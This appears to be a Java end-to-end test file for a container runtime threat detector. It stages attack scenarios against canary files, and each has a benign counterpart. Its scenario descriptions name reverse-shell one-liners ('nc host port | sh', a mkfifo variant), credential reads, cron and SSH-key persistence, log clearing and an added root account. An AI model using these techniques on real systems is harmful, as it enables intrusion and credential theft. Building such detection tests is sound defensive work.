package io.keelwatch.e2e;

import static io.keelwatch.e2e.Scenario.inImage;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/**
 * Runtime threats of rules/pack/runtime-threats.yaml: persistence (cron, authorized_keys), credential reads
 * (service-account token, cloud credentials), evasion (log and history clearing, writes refused by read-only host
 * mounts), Docker API clients and piped reverse shells; with benign look-alikes that must stay quiet.
 *
 * <p>Host paths: the credential scenarios mount files from the host directories the shipped audit rules read-watch
 * (kubelet's pod volumes, root's ~/.aws). A watch needs its directory when the rules are loaded, so the suite
 * must hold a {@link #hostFixture()} open from before the agent starts (netlink mode loads rules at start) until
 * the scenarios are done; it creates only what is missing and removes only what it created. Every other scratch
 * path lives below an existing watched directory (/home, /var/log, /etc/cron.d) and is removed by its scenario.
 */
final class ThreatScenarios {

    static final String THREAT = "runtime_threat";

    static final Path POD_VOLUME = Path.of("/var/lib/kubelet/pods/kwe2e-0000-pod/volumes/kubernetes.io~projected/kube-api-access-kwe2e");
    static final Path AWS_DIR = Path.of("/root/.aws");
    static final Path HOST_CRON = Path.of("/etc/cron.d");

    private static final Duration WINDOW = Duration.ofSeconds(10);

    private ThreatScenarios() {}

    static List<Scenario> attacks() {
        return List.of(
                new Scenario("cron-persist", THREAT, "crontab, and a cron file written into the host's /etc/cron.d", WINDOW,
                        ThreatScenarios::cronPersist),
                new Scenario("ssh-key", THREAT, "authorized_keys written through a mount of a host home directory", WINDOW,
                        (ctx, c) -> withScratch(Path.of("/home", c + "-home"), null, dir ->
                                Scenario.runInImage(ctx, c, "ssh-key", List.of("-v", dir + ":/home/victim"), List.of()))),
                new Scenario("sa-token", THREAT, "cat | base64 of a mounted service-account token", WINDOW,
                        inImage("sa-token", tokenMount(), List.of())),
                new Scenario("cloud-creds", THREAT, "cat of a mounted ~/.aws/credentials", WINDOW,
                        inImage("cloud-creds", List.of("-v", AWS_DIR + ":/root/.aws:ro"), List.of())),
                new Scenario("log-clear", THREAT, "truncate and rm of a host log through a mount; history cleared", WINDOW,
                        (ctx, c) -> withScratch(Path.of("/var/log", c), "old line\n", dir ->
                                Scenario.runInImage(ctx, c, "log-clear", List.of("-v", dir + ":/var/log/app"), List.of()))),
                new Scenario("ro-write", Scenarios.HOST_MOUNT, "writes into read-only mounts of /etc/cron.d and a log dir (EROFS)",
                        WINDOW, (ctx, c) -> withScratch(Path.of("/var/log", c), "old line\n", dir ->
                                Scenario.runInImage(ctx, c, "ro-write", roMounts(dir), List.of()))),
                new Scenario("docker-api", THREAT, "curl-like GET /containers/json and POST /containers/create", WINDOW,
                        inImage("docker-api", List.of("-v", "/var/run/docker.sock:/var/run/docker.sock"), List.of())),
                new Scenario("revshell-pipe", Scenarios.LATERAL, "nc host port | sh", WINDOW,
                        (ctx, c) -> withListener(ctx, c, "revshell-pipe")),
                new Scenario("revshell-fifo", Scenarios.LATERAL, "mkfifo; cat fifo | sh -i | nc host port > fifo", WINDOW,
                        (ctx, c) -> withListener(ctx, c, "revshell-fifo")),
                new Scenario("revshell-telnet", Scenarios.LATERAL, "telnet host port | sh", WINDOW,
                        (ctx, c) -> withListener(ctx, c, "revshell-telnet")),
                // ---- runtime baseline: drift, interactive sessions, packages (rules/pack/runtime-baseline.yaml) ----
                new Scenario("drop-exec", THREAT, "busybox copied to /var/lib after start, chmod 0755, run", WINDOW,
                        inImage("drop-exec", List.of(), List.of())),
                new Scenario("setuid-bit", THREAT, "a copy of the shell made setuid root (chmod 4755)", WINDOW,
                        inImage("setuid-bit", List.of(), List.of())),
                new Scenario("pkg-install", THREAT, "apk add in a running container", WINDOW,
                        inImage("pkg-install", List.of(), List.of())),
                new Scenario("terminal-shell", THREAT, "docker exec -t into a running container: a shell with a terminal",
                        WINDOW, ThreatScenarios::terminalShell),
                // an intruder inside a container that has been running a while (the agent watches its /etc and binary
                // directories from the moment it learns of the start)
                new Scenario("etc-write", THREAT, "docker exec: a second root account appended to the container's /etc/passwd",
                        WINDOW, (ctx, c) -> execInto(ctx, c, List.of(), "scenario etc-write", Duration.ofSeconds(2))),
                new Scenario("bin-write", THREAT, "docker exec: a program planted in the container's /usr/bin", WINDOW,
                        (ctx, c) -> execInto(ctx, c, List.of(), "scenario bin-write", Duration.ofSeconds(2))));
    }

    static List<Scenario> benign() {
        return List.of(
                new Scenario("token-app-read", Scenarios.NONE, "the application reads its own service-account token",
                        Duration.ofSeconds(5), inImage("sa-token-app", tokenMount(), List.of())),
                new Scenario("log-append", Scenarios.NONE, "an application appends to its log through a host mount",
                        Duration.ofSeconds(5), (ctx, c) -> withScratch(Path.of("/var/log", c), "first line\n", dir ->
                                Scenario.runInImage(ctx, c, "log-append", List.of("-v", dir + ":/var/log/app"), List.of()))),
                new Scenario("ro-read", Scenarios.NONE, "reads through read-only mounts of /etc/cron.d and a log dir",
                        Duration.ofSeconds(5), (ctx, c) -> withScratch(Path.of("/var/log", c), "old line\n", dir ->
                                Scenario.runInImage(ctx, c, "ro-read", roMounts(dir), List.of()))),
                new Scenario("app-dirs", Scenarios.NONE, "an entrypoint chmods its data and cache directories",
                        Duration.ofSeconds(5), inImage("app-dirs", List.of(), List.of())),
                new Scenario("exec-no-tty", Scenarios.NONE, "docker exec of a script without a terminal (what tooling does)",
                        Duration.ofSeconds(5), (ctx, c) -> execInto(ctx, c, List.of(), "ls / >/dev/null; hostname", Duration.ZERO)));
    }

    /** A shell typed into: docker exec -t gives the session a pseudo-terminal, as kubectl exec -it does. */
    private static Scenario.Started terminalShell(ScenarioContext ctx, String container) {
        return execInto(ctx, container, List.of("-t"), "id; hostname; ls /", Duration.ZERO);
    }

    /** A plain running container, then, {@code after} its start, one docker exec of sh -c SCRIPT with the given flags. */
    private static Scenario.Started execInto(ScenarioContext ctx, String container, List<String> flags, String script,
                                             Duration after) {
        String id = Docker.runDetached(container, List.of(), ctx.image(), List.of("sleep", "8"));
        ServiceProcess.sleep(after);
        java.time.Instant t0 = java.time.Instant.now();
        List<String> cmd = new ArrayList<>(List.of("docker", "exec"));
        cmd.addAll(flags);
        cmd.addAll(List.of(container, "sh", "-c", script));
        Cmd.Result r = Cmd.run(Duration.ofSeconds(30), null, cmd);
        Docker.removeForce(container);
        return new Scenario.Started(container, id, t0, r.out() + r.err());
    }

    private static List<String> tokenMount() {
        return List.of("-v", POD_VOLUME + ":/var/run/secrets/kubernetes.io/serviceaccount:ro");
    }

    private static List<String> roMounts(Path logDir) {
        return List.of("-v", HOST_CRON + ":/host/cron.d:ro", "-v", logDir + ":/var/log/app:ro");
    }

    private static Scenario.Started cronPersist(ScenarioContext ctx, String container) throws IOException {
        // cron ignores names with a dot, and the content is a comment: nothing can run even for the ~1 s it exists
        String canary = "keelwatch-e2e." + container;
        try {
            return Scenario.runInImage(ctx, container, "cron-persist", List.of("-v", HOST_CRON + ":/host/cron.d"),
                    List.of(canary));
        } finally {
            Files.deleteIfExists(HOST_CRON.resolve(canary));
        }
    }

    private static Scenario.Started withListener(ScenarioContext ctx, String container, String scenario) {
        String listener = container + "-listener";
        try {
            Docker.runDetached(listener, List.of("--network", ctx.network()), ctx.image(), List.of("scenario", "listener", "4444", "3"));
            String ip = Docker.ip(listener, ctx.network());
            ServiceProcess.sleep(Duration.ofMillis(500));
            return Scenario.runInImage(ctx, container, scenario, List.of("--network", ctx.network()), List.of(ip, "4444"));
        } finally {
            Docker.removeForce(listener);
        }
    }

    /** Host paths made for the scenarios; closing removes them. */
    interface HostFixture extends AutoCloseable {
        @Override
        void close() throws IOException;
    }

    interface InDir {
        Scenario.Started run(Path dir) throws Exception;
    }

    /** A scratch host directory (with app.log holding {@code log}, if given) for one scenario, removed after. */
    private static Scenario.Started withScratch(Path dir, String log, InDir body) throws Exception {
        if (Files.exists(dir)) {
            throw new IllegalStateException(dir + " exists: refusing to use (and remove) a host directory this test did not make");
        }
        Files.createDirectories(dir);
        try {
            if (log != null) {
                Files.writeString(dir.resolve("app.log"), log);
            }
            return body.run(dir);
        } finally {
            deleteTree(dir);
        }
    }

    /**
     * Creates the token volume below /var/lib/kubelet/pods and ~/.aws/credentials (canary values), for as long as
     * it is open. Throws, creating nothing, when a credentials file is already there.
     */
    static HostFixture hostFixture() throws IOException {
        if (Files.exists(AWS_DIR.resolve("credentials"))) {
            throw new IllegalStateException(AWS_DIR + "/credentials exists: the cloud-creds scenario will not touch it");
        }
        List<Path> made = new ArrayList<>();
        made.add(topMissing(POD_VOLUME));
        made.add(topMissing(AWS_DIR));
        Files.createDirectories(POD_VOLUME);
        Files.writeString(POD_VOLUME.resolve("token"), "eyJhbGciOiJSUzI1NiJ9.keelwatch-e2e-canary.sig");
        Files.writeString(POD_VOLUME.resolve("namespace"), "default");
        Files.createDirectories(AWS_DIR);
        Files.writeString(AWS_DIR.resolve("credentials"),
                "[default]\naws_access_key_id = AKIAKEELWATCHCANARY0\naws_secret_access_key = canary\n");
        return () -> {
            Files.deleteIfExists(AWS_DIR.resolve("credentials"));
            for (Path p : made) {
                if (p != null) {
                    deleteTree(p);
                }
            }
        };
    }

    /** The highest missing ancestor of {@code p} (what creating p adds to the host), or null when p exists. */
    private static Path topMissing(Path p) {
        if (Files.exists(p)) {
            return null;
        }
        Path top = p;
        while (top.getParent() != null && !Files.exists(top.getParent())) {
            top = top.getParent();
        }
        return top;
    }

    private static void deleteTree(Path dir) throws IOException {
        if (!Files.exists(dir)) {
            return;
        }
        try (Stream<Path> s = Files.walk(dir)) {
            s.sorted(Comparator.reverseOrder()).forEach(p -> {
                try {
                    Files.deleteIfExists(p);
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            });
        }
    }
}
